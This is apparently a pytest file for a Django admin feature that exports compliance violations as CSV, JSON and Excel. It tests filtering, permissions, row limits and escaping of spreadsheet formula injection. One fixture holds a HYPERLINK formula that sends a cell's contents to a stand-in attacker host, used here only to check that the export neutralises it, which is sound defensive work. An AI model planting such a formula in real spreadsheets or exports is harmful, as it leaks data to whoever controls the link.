"""Violations as files: complete, filtered, and harmless in a spreadsheet."""

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import User
from accounts.roles import Role
from compliance.admin import exports
from compliance.models import Evaluation, Violation
from core.spreadsheets import harmless
from tests import factories
from tests.admin.pages import taking, text_of

EXPORT = reverse("admin:compliance_violation_export")
CSV, JSON, XLSX = "0", "1", "2"
FORMULA = '=HYPERLINK("https://evil.example?"&A1) (R01)'


@pytest.fixture
def browser(browser_for: Callable[..., Client], viewer: User) -> Client:
    """A viewer's browser."""
    return browser_for(viewer)


@pytest.fixture
def found(judge: Callable[..., Evaluation], report: Callable[..., Any]) -> None:
    """Two violations, one with a message that a spreadsheet would compute."""
    judge(report(deny=[FORMULA], warn=["WARNING [Security/R02]: in apps/b.ts\x07"], changed_files=["apps/b.ts"]))


def export(browser: Client, kind: str, **filters: str) -> Any:
    """Ask for the file."""
    return browser.post(EXPORT, {"format": kind, "resource": "0"}, query_params=filters)


def rows_of(response: Any) -> list[dict[str, str]]:
    """A CSV answer's rows."""
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def test_json_holds_every_violation_as_it_is(browser: Client, found: None) -> None:
    rows = {row["rule"]: row for row in json.loads(export(browser, JSON).content)}
    assert rows["R01"]["message"] == FORMULA
    told = {
        name: rows["R02"][name] for name in ("repository", "pr_number", "author", "severity", "status", "file_path")
    }
    assert told == {
        "repository": "acme/shop",
        "pr_number": 1,
        "author": "kim",
        "severity": "WARNING",
        "status": "OPEN",
        "file_path": "apps/b.ts",
    }
    assert rows["R01"]["id"] == str(Violation.objects.get(rule="R01").pk)


def test_a_formula_in_csv_is_only_text(browser: Client, found: None) -> None:
    rows = {row["rule"]: row for row in rows_of(export(browser, CSV))}
    assert rows["R01"]["message"] == f"'{FORMULA}"
    assert rows["R02"]["pr_number"] == "1"


def test_a_formula_in_excel_is_only_text(browser: Client, found: None) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(export(browser, XLSX).content)).active
    [header, *rows] = sheet.iter_rows()
    column = [cell.value for cell in header].index("message")
    cells = [row[column] for row in rows]
    assert [cell.data_type for cell in cells] == ["s", "s"]
    assert sorted(cell.value for cell in cells)[0] == f"'{FORMULA}"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r\n=1", "  =1", "＝1", "\n@x"])
def test_what_a_spreadsheet_would_compute_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["a=b", "R01", "", 7, "ü"])
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert harmless(cell) == cell


@pytest.mark.parametrize(
    ("filters", "rules"),
    [
        ({"rule__id__exact": "R01"}, ["R01"]),
        ({"standing": "live"}, ["R01", "R02"]),
        ({"standing": "FIXED"}, []),
        ({"q": "apps/b"}, ["R02"]),
    ],
)
def test_an_export_holds_what_the_list_shows(
    filters: dict[str, str], rules: list[str], browser: Client, found: None
) -> None:
    assert sorted(row["rule"] for row in rows_of(export(browser, CSV, **filters))) == rules


def test_the_lists_button_keeps_the_filters(browser: Client, found: None) -> None:
    page = browser.get(reverse("admin:compliance_violation_changelist"), {"standing": "live"}).content.decode()
    assert f'href="{EXPORT}?standing=live"' in page


@pytest.mark.parametrize("number", [1, 3])
def test_an_export_takes_as_many_queries_for_three_rows_as_for_one(
    number: int,
    browser: Client,
    judge: Callable[..., Evaluation],
    report: Callable[..., Any],
) -> None:
    for pull in range(1, number + 1):
        judge(report(pr_number=pull, deny=[f"HARD STOP [Security/R0{pull}]: in apps/{pull}.ts"]))
    browser.get(EXPORT)  # host names are looked up once a minute
    with taking(12):
        assert len(rows_of(export(browser, CSV))) == number


def test_more_than_memory_should_hold_is_refused(browser: Client, found: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "MAX_ROWS", 1)
    assert "Narrow the list with filters first." in text_of(export(browser, CSV))


def test_whoever_may_not_read_may_not_export(browser_for: Callable[..., Client], found: None) -> None:
    browser = browser_for(factories.user(Role.CI_REPORTER, password="correct horse"))
    assert export(browser, CSV).status_code == 403
